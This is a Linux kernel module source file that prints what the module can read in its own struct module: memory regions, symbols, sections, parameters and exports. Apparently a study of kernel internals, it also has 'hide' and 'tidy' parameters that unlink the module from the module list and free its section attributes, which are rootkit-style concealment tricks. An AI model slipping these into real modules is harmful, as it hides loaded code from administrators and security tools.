// What code of modules reads in its own struct module: where its memory is, its symbols,
// sections, parameters and exports, at init, after it, and when it is unloaded.
#include <linux/bug.h>
#include <linux/jump_label.h>
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/percpu.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/sysfs.h>
#include <linux/version.h>

static int number = 1;
module_param(number, int, 0444);
static char *word = "none";
module_param(word, charp, 0444);

static DEFINE_PER_CPU(int, each);
static int zeroed, written = 7;
static const int constant[] = { 1, 2, 3 };
static int after __ro_after_init = 5;
static int __initdata early = 3;
static DEFINE_STATIC_KEY_FALSE(key);

int fields_exported(int n) { return n + number; }
EXPORT_SYMBOL_GPL(fields_exported);
int fields_open = 4;
EXPORT_SYMBOL(fields_open);

static noinline int fields_core(int n)
{
	WARN_ON_ONCE(n == 12345);
	if (static_branch_unlikely(&key))
		n++;
	return n + zeroed + this_cpu_read(each);
}
NOKPROBE_SYMBOL(fields_core);
static int __kprobes fields_probes(int n) { return n; }
static int __init fields_init(void);

/* Copies that people keep of structures that are the kernel's own. */
struct sect_attr {
	struct bin_attribute battr;
	unsigned long address;
};
struct sect_attrs {
	struct attribute_group grp;
	unsigned int nsections;
	struct sect_attr attrs[];
};

static char where(const void *p)
{
	unsigned long a = (unsigned long)p;

	return within_module_init(a, THIS_MODULE) ? 'i' : within_module_core(a, THIS_MODULE) ? 'c' : within_module(a, THIS_MODULE) ? '?' : '-';
}

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 4, 0)
static int part(const struct module_layout *l, const void *p)
{
	unsigned long off = p - l->base;

	return off < l->text_size ? 1 : off < l->ro_size ? 2 : off < l->ro_after_init_size ? 3 : off < l->size ? 4 : 0;
}

static void __ref layouts(void)
{
	const struct module_layout *c = &THIS_MODULE->core_layout, *i = &THIS_MODULE->init_layout;

	pr_info("fields: core base %d aligned %d sizes %d %d %d %d mod %d\n", c->base != NULL,
		!((unsigned long)c->base % PAGE_SIZE || c->size % PAGE_SIZE || c->text_size % PAGE_SIZE),
		c->text_size > 0, c->ro_size > c->text_size, c->ro_after_init_size > c->ro_size, c->size > c->ro_after_init_size,
		c->mtn.mod == THIS_MODULE);
	pr_info("fields: text %d %d rodata %d after init %d data %d bss %d struct %d symbols %d\n", part(c, fields_core), part(c, fields_probes),
		part(c, constant), part(c, &after), part(c, &written), part(c, &zeroed), part(c, THIS_MODULE),
		part(c, THIS_MODULE->core_kallsyms.symtab));
	pr_info("fields: init base %d sizes %d %d %d %d\n", i->base != NULL, i->text_size > 0, i->ro_size >= i->text_size,
		i->ro_after_init_size >= i->ro_size, i->size > i->ro_after_init_size);
	if (i->base)
		pr_info("fields: init text %d data %d symbols %d\n", part(i, fields_init), part(i, &early), part(i, THIS_MODULE->kallsyms->symtab));
}
#else
static int part(const void *p)
{
	for_each_mod_mem_type(type)
		if (within_module_mem_type((unsigned long)p, THIS_MODULE, type))
			return type;
	return -1;
}

static void __ref layouts(void)
{
	for_each_mod_mem_type(type) {
		const struct module_memory *m = &THIS_MODULE->mem[type];

		pr_info("fields: mem %d base %d size %d aligned %d\n", type, m->base != NULL, m->size > 0,
			!((unsigned long)m->base % PAGE_SIZE || m->size % PAGE_SIZE));
	}
	pr_info("fields: text %d %d rodata %d after init %d data %d bss %d struct %d symbols %d\n", part(fields_core), part(fields_probes),
		part(constant), part(&after), part(&written), part(&zeroed), part(THIS_MODULE), part(THIS_MODULE->core_kallsyms.symtab));
	pr_info("fields: init text %d data %d symbols %d\n", part(fields_init), part(&early), part(THIS_MODULE->kallsyms->symtab));
}
#endif

static void symbol(const struct mod_kallsyms *k, const char *name)
{
	unsigned int i;

	for (i = 1; i < k->num_symtab; i++) {
		const Elf_Sym *s = &k->symtab[i];

		if (strcmp(k->strtab + s->st_name, name))
			continue;
		pr_info("fields: symbol %s %c at %c size %d\n", name, k->typetab[i], where((void *)kallsyms_symbol_value(s)), s->st_size > 0);
		return;
	}
	pr_info("fields: no symbol %s\n", name);
}

static void symbols(const struct mod_kallsyms *k)
{
	pr_info("fields: symbols %d tables at %c%c%c\n", k->num_symtab > 10, where(k->symtab), where(k->strtab), where(k->typetab));
	symbol(k, "fields_core");
	symbol(k, "fields_exported");
	symbol(k, "init_module");
	symbol(k, "constant");
	symbol(k, "written");
	symbol(k, "zeroed");
	symbol(k, "kfree");
	symbol(k, "__this_module");
}

static void sections(void)
{
	const struct sect_attrs *all = (void *)THIS_MODULE->sect_attrs;
	static const char *const names[] = { ".text", ".rodata", ".data", ".bss", ".init.text", ".exit.text", ".kprobes.text",
		".gnu.linkonce.this_module", ".symtab", ".strtab", ".modinfo", "__versions", ".data..percpu", ".data..ro_after_init" };
	unsigned int i, j;

	if (!all) {
		pr_info("fields: no sections\n");
		return;
	}
	pr_info("fields: group %s\n", all->grp.name);
	for (j = 0; j < ARRAY_SIZE(names); j++) {
		const struct sect_attr *found = NULL;

		for (i = 0; i < all->nsections; i++)
			if (!strcmp(all->attrs[i].battr.attr.name, names[j]))
				found = &all->attrs[i];
		if (found)
			pr_info("fields: section %s mode %o at %c\n", names[j], found->battr.attr.mode, where((void *)found->address));
		else
			pr_info("fields: no section %s\n", names[j]);
	}
}

static void attributes(void)
{
	const struct module_attribute *a;

	if (!THIS_MODULE->modinfo_attrs) {
		pr_info("fields: no attributes\n");
		return;
	}
	for (a = THIS_MODULE->modinfo_attrs; a->attr.name; a++)
		pr_info("fields: attribute %s %o\n", a->attr.name, a->attr.mode);
}

static void listed(void)
{
	struct list_head *at;
	int n = 0, self = 0;

	/* One of them is the head of the list. */
	for (at = THIS_MODULE->list.next; at != &THIS_MODULE->list && n < 1000; at = at->next, n++)
		if (at->next->prev != at || at->prev->next != at)
			self = -1;
	pr_info("fields: on a list of others %d whole %d\n", n > 0 && n < 1000, self == 0);
}

static void __ref show(const char *when)
{
	struct module *m = THIS_MODULE;

	pr_info("fields: %s: state %d name %s refs %d live %d\n", when, m->state, m->name, module_refcount(m), module_is_live(m));
	pr_info("fields: core %c%c exit %c constant %c after %c data %c bss %c struct %c stack %c kernel %c\n", where(fields_core), where(fields_probes),
		where(m->exit), where(constant), where(&after), where(&written), where(&zeroed), where(m), where(&m), where(kfree));
	pr_info("fields: init %c early %c\n", where(fields_init), where(&early));
	layouts();
	symbols(m->kallsyms);
	pr_info("fields: core symbols %d\n", m->kallsyms == &m->core_kallsyms);
	pr_info("fields: version %s srcversion %zu args '%s' taints %#lx\n", m->version, strlen(m->srcversion), m->args, m->taints);
	pr_info("fields: num_kp %u %s %s at %c exports %u gpl %u at %c%c\n", m->num_kp, m->kp[0].name, m->kp[1].name, where(m->kp),
		m->num_syms, m->num_gpl_syms, where(m->syms), where(m->gpl_syms));
	pr_info("fields: gpl only %d signed %d async %d livepatch %d\n", m->using_gplonly_symbols, m->sig_ok, module_requested_async_probing(m),
		is_livepatch_module(m));
	pr_info("fields: bugs %d at %c listed %d percpu %d size %u jumps %d at %c\n", m->num_bugs > 0, where(m->bug_table), !list_empty(&m->bug_list),
		m->percpu != NULL, m->percpu_size, m->num_jump_entries > 0, where(m->jump_entries));
	pr_info("fields: sites %d at %c kprobes.text %d at %c blacklist %u at %c\n", m->num_ftrace_callsites > 5, where(m->ftrace_callsites),
		m->kprobes_text_size > 0, where(m->kprobes_text_start), m->num_kprobe_blacklist, where(m->kprobe_blacklist));
	pr_info("fields: tracepoints %u srcu %u bpf %u formats %u events %u evals %u\n", m->num_tracepoints, m->num_srcu_structs,
		m->num_bpf_raw_events, m->num_trace_bprintk_fmt, m->num_trace_events, m->num_trace_evals);
	pr_info("fields: init at %c exit at %c users %d uses %d\n", m->init == fields_init ? 'i' : '?', where(m->exit), !list_empty(&m->source_list),
		!list_empty(&m->target_list));
	pr_info("fields: kobject %s in sysfs %d mod %d mp %d holders %s notes %d\n", m->mkobj.kobj.name, m->mkobj.kobj.state_in_sysfs,
		m->mkobj.mod == m, m->mkobj.mp != NULL, m->holders_dir ? m->holders_dir->name : "none", m->notes_attrs != NULL);
	listed();
}

static int set_show(const char *val, const struct kernel_param *kp)
{
	show(val);
	return 0;
}
static const struct kernel_param_ops show_ops = { .set = set_show };
module_param_cb(show, &show_ops, NULL, 0200);

/* What modules do that want few traces: the kernel unloads them nevertheless. */
static int set_tidy(const char *val, const struct kernel_param *kp)
{
	kfree(THIS_MODULE->sect_attrs);
	THIS_MODULE->sect_attrs = NULL;
	return 0;
}
static const struct kernel_param_ops tidy_ops = { .set = set_tidy };
module_param_cb(tidy, &tidy_ops, NULL, 0200);

/* hide and show in the list of modules. */
static struct list_head *before;
static int set_hide(const char *val, const struct kernel_param *kp)
{
	if (*val == '1') {
		before = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	} else {
		list_add(&THIS_MODULE->list, before);
	}
	return 0;
}
static const struct kernel_param_ops hide_ops = { .set = set_hide };
module_param_cb(hide, &hide_ops, NULL, 0200);

static int __init fields_init(void)
{
	after = early + fields_core(1) + fields_probes(2) + constant[number % 3];
	show("init");
	sections();
	attributes();
	return 0;
}

static void __exit fields_exit(void)
{
	show("exit");
}

module_init(fields_init);
module_exit(fields_exit);
MODULE_LICENSE("GPL");
MODULE_VERSION("1.2");
